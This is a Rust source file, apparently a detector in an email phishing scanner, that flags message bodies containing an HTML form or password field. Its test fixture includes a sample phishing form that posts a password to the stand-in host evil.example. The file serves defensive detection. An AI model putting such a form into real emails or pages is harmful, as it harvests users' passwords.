//! A form inside the message asks for what should be asked on a site, or is never seen working: mail clients block most.

use super::kit::*;

pub(super) const SIGNAL: Signal = Signal {
    name: "form-in-body",
    about: "The message itself has a form or a password field.",
    read,
    examples: &[
        hit(
            "a password field",
            "From: a@b.example\nContent-Type: text/html\n\n<form action=\"https://evil.example/\"><input type=\"password\"></form>",
        ),
        miss(
            "a link to a form",
            "From: a@b.example\nContent-Type: text/html\n\n<a href=\"https://b.example/form\">form</a>",
        ),
    ],
};

fn read(evidence: &Evidence) -> Reading {
    let html = &evidence.message.body.traits;
    let mut sentences = Vec::new();
    if html.password_fields > 0 {
        sentences.push("the message has a password field".to_owned());
    } else if html.forms > 0 {
        sentences.push("the message has a form".to_owned());
    }
    told(sentences)
}
